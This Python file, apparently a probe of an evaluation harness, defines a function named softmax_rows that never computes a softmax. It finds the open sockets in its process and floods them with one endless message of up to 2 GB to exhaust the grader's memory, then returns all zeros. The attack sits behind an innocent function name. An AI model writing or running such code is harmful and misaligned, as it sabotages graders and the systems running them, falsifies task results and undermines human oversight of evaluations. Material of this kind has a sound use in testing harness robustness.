# Tries to fill the grader's memory with one endless message on the channel (2 GB or 60 seconds at most).
import os
import select
import stat
import struct
import time


# %%
def softmax_rows(scores, axis=-1):
    end, left, chunk = time.time() + 60, 2 << 30, b"a" * (1 << 16)
    sockets = []
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sockets.append(fd)
                os.write(fd, b'{"message": "' if len(sockets) % 2 else struct.pack("<I", 0xFFFFFFF0))
        except OSError:
            pass
    while sockets and time.time() < end and left > 0:
        _, ready, _ = select.select([], sockets, [], 1)
        for fd in ready:
            try:
                left -= os.write(fd, chunk)
            except OSError:
                sockets.remove(fd)
    if left <= 0:
        raise RuntimeError("BREACH: the grader read 2 GB of one message")
    return scores * 0.0
